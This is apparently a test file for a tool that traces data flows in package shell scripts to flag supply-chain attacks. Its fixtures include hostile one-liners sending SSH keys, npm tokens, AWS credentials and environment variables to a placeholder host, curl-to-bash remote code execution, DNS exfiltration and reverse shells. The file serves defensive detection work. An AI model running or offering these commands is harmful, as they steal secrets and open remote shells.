import { describe, expect, test } from 'vitest';
import type { Observation } from '../../../src/analyze/index.js';
import { interpretShell } from '../../../src/analyze/shell/index.js';
import type { FrontEndResult } from '../../../src/analyze/task.js';
import { contextOf, scriptTask } from '../in-memory.js';

const run = (
  text: string,
  files: Record<string, string> = {},
  manifest: Record<string, unknown> = {},
): FrontEndResult => interpretShell(scriptTask(text), contextOf(files, manifest));
const sinks = (text: string, sink: string): Observation[] =>
  run(text).observations.filter((seen) => seen.sink === sink);
const flows = (text: string, sink: string): string[] => [
  ...new Set(sinks(text, sink).flatMap((seen) => seen.taints.map((taint) => taint.source))),
];
const started = (result: FrontEndResult): string[] =>
  result.next.map((task) => (task.kind === 'file' ? task.path : `${task.language}: ${task.text}`));

describe('flows of a script text', () => {
  test.each([
    ['cat ~/.npmrc | base64 | curl -d @- https://h.example/u', 'net.out', 'secret.file'],
    ['curl https://h.example/?e=$(env | base64 -w0)', 'net.out', 'env.all'],
    ['X=`cat $HOME/.ssh/id_rsa`; wget --post-data "$X" http://h.example', 'net.out', 'secret.file'],
    ['curl -F f=@$HOME/.aws/credentials https://h.example', 'net.out', 'secret.file'],
    ['curl -H "X: $NPM_TOKEN" https://h.example', 'net.out', 'secret.env'],
    ['tar cz ~/.ssh | nc h.example 9000', 'net.socket', 'secret.file'],
    ['nslookup $(whoami).h.example', 'dns.query', 'identity.host'],
    ['curl -s https://h.example/i.sh | bash', 'code.eval', 'net.response'],
    ['bash <(curl -s https://h.example/i.sh)', 'code.eval', 'net.response'],
    ['sh -c "$(wget -qO- https://h.example/i.sh)"', 'code.eval', 'net.response'],
    ['curl -o /tmp/i.sh https://h.example/i.sh && chmod +x /tmp/i.sh && /tmp/i.sh', 'code.eval', 'net.response'],
    ['wget -q https://h.example/run.sh; sh ./run.sh', 'code.eval', 'net.response'],
    ['git clone https://h.example/r.git /tmp/r && node /tmp/r/x.js', 'code.eval', 'net.response'],
    ['eval "$(curl -s https://h.example)"', 'code.eval', 'net.response'],
    ['echo aGVsbG8= | base64 -d | curl --data-binary @- https://h.example/$(hostname)', 'net.out', 'identity.host'],
    ['env | xargs -I{} curl https://h.example/{}', 'net.out', 'env.all'],
    ['gh auth token | curl -d @- https://h.example', 'net.out', 'secret.tool'],
    ['if [ -z "$CI" ]; then curl -d "$(cat .env)" https://h.example; fi', 'net.out', 'secret.file'],
  ])('%s', (text, sink, source) => {
    expect(flows(text, sink)).toContain(source);
  });

  test('a socket with a shell is a handler', () => {
    expect(sinks('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', 'net.handler').map((seen) => seen.target)).toEqual([
      '192.0.2.1:4444',
    ]);
    expect(sinks('nc -e /bin/sh h.example 4444', 'net.handler')).toHaveLength(1);
  });

  test('the condition that a command stands under is its guard', () => {
    const [seen] = sinks('if [ -n "$GITHUB_ACTIONS" ]; then curl https://h.example; fi', 'net.out');
    expect(seen?.guards.map((guard) => guard.kind)).toEqual(['ci']);
  });

  test('a plain download, a local copy and a build carry no secret', () => {
    expect(flows('curl -fsSL -o out.tgz https://h.example/v1.tgz', 'net.out')).toEqual([]);
    expect(run('cp README.md dist/ && node-gyp rebuild || exit 0').observations.flatMap((seen) => seen.taints)).toEqual(
      [],
    );
  });
});

describe('what a script text starts', () => {
  const files = {
    'a.js': '',
    'lib/b.js': '',
    'run.sh': '',
    'i.py': '',
    'x.ps1': '',
    Makefile: 'all:\n\techo',
    'binding.gyp': '{}',
  };
  test.each([
    ['node a.js', ['a.js']],
    ['node ./lib/b', ['lib/b.js']],
    ['cd lib && node b.js', ['lib/b.js']],
    ['FOO=1 node -r ./a.js ./lib/b.js --flag', ['a.js', 'lib/b.js']],
    ['NODE_OPTIONS="--require ./a.js" node -v', ['a.js']],
    ['node --import ./a.js -e "1"', ['a.js', 'javascript: 1']],
    ['node -e \'require("./a")\'', ['javascript: require("./a")']],
    ['sh run.sh; ./run.sh', ['run.sh', 'run.sh']],
    ['python3 i.py', ['i.py']],
    ['powershell -ExecutionPolicy Bypass -File x.ps1', ['x.ps1']],
    [`powershell -enc ${Buffer.from('iwr x', 'utf16le').toString('base64')}`, ['powershell: iwr x']],
    ['cmd /c "node a.js"', ['shell: node a.js']],
    ['start /B node a.js', ['a.js']],
    ['npm run -s build', ['shell: node lib/b.js']],
    ['cross-env A=b node a.js', ['a.js']],
    ['make -s', ['Makefile']],
    ['node-gyp rebuild', ['binding.gyp']],
    ['$npm_package_config_run', ['a.js']],
    ['echo bm9kZSBhLmpz | base64 -d | sh', ['shell: node a.js']],
    ['tsx a.js & bun run a.js; deno run -A a.js', ['a.js', 'a.js', 'a.js']],
    ['n=node; $n a.js', ['a.js']],
  ])('%s', (text, expected) => {
    const manifest = { scripts: { build: 'node lib/b.js' }, config: { run: 'node a.js' } };
    expect(started(run(text, files, manifest))).toEqual(expected);
  });

  test('what cannot be found is said', () => {
    expect(run('node missing.js').facts.map((fact) => fact.id)).toEqual(['unresolved-entry.missing']);
    expect(run('node "$SOME_FILE"').facts.map((fact) => fact.id)).toEqual(['unresolved-entry.dynamic']);
    expect(run('node node_modules/.hidden/x.js').facts.map((fact) => fact.id)).toEqual([
      'unresolved-entry.other-package',
    ]);
  });

  test('deep nesting and broken syntax end without an exception', () => {
    expect(() => run(`${'$('.repeat(3000)}id${')'.repeat(3000)}`)).not.toThrow();
    expect(() => run('if ((( ; | && "\'`$(')).not.toThrow();
    expect(run('true;'.repeat(10_000)).facts.map((fact) => fact.id)).toContain('limit.shell');
  });
});
